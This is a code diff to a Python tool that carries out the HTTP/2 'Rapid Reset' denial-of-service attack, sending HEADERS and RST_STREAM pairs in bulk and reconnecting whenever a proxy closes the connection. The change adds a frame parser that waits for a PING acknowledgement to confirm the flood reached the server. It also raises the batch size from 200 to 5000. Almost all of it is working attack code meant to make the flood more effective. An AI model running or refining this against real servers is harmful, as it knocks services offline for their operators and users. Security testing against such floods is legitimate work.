@@ -196,20 +196,37 @@ def rapid_reset_bytes(first_stream, count, block):
     return b"".join(out)
 
 
-def drain(sock):
-    """Reads and drops whatever the peer sends until it closes."""
+def watch_frames(sock):
+    """Reads the peer's frames until it closes; returns an Event set when a
+    PING acknowledgement arrives or the connection ends. A peer acks a PING
+    only after it has processed everything sent before it, so waiting for
+    the ack makes sure the attack reached the server's HTTP/2 layer rather
+    than a socket buffer that a close would discard."""
+    done = threading.Event()
+
     def run():
+        buf = b""
         try:
-            while sock.recv(65536):
-                pass
+            while True:
+                data = sock.recv(65536)
+                if not data:
+                    break
+                buf += data
+                while len(buf) >= 9:
+                    n = int.from_bytes(buf[0:3], "big")
+                    if len(buf) < 9 + n:
+                        break
+                    if buf[3] == 0x6 and buf[4] & 0x1:
+                        done.set()
+                    buf = buf[9 + n:]
         except OSError:
             pass
-    t = threading.Thread(target=run, daemon=True)
-    t.start()
-    return t
+        done.set()
+    threading.Thread(target=run, daemon=True).start()
+    return done
 
 
-def rapid_reset(connect, streams, block, chunk=200):
+def rapid_reset(connect, streams, block, chunk=5000):
     """Sends `streams` HEADERS+RST_STREAM pairs, reconnecting with
     `connect()` whenever the peer closes (as a proxy does after its
     per-connection request limit). Returns (streams sent, connections)."""
@@ -218,7 +235,7 @@ def rapid_reset(connect, streams, block, chunk=200):
     while sent < streams:
         sock = connect()
         connections += 1
-        drain(sock)
+        processed = watch_frames(sock)
         try:
             sock.sendall(H2_PREFACE + h2_frame(0x4, 0, 0, b""))
             sid = 1
@@ -227,6 +244,8 @@ def rapid_reset(connect, streams, block, chunk=200):
                 sock.sendall(rapid_reset_bytes(sid, n, block))
                 sid += 2 * n
                 sent += n
+            sock.sendall(h2_frame(0x6, 0, 0, b"tessera!"))
+            processed.wait(120)
         except OSError:
             pass
         finally:
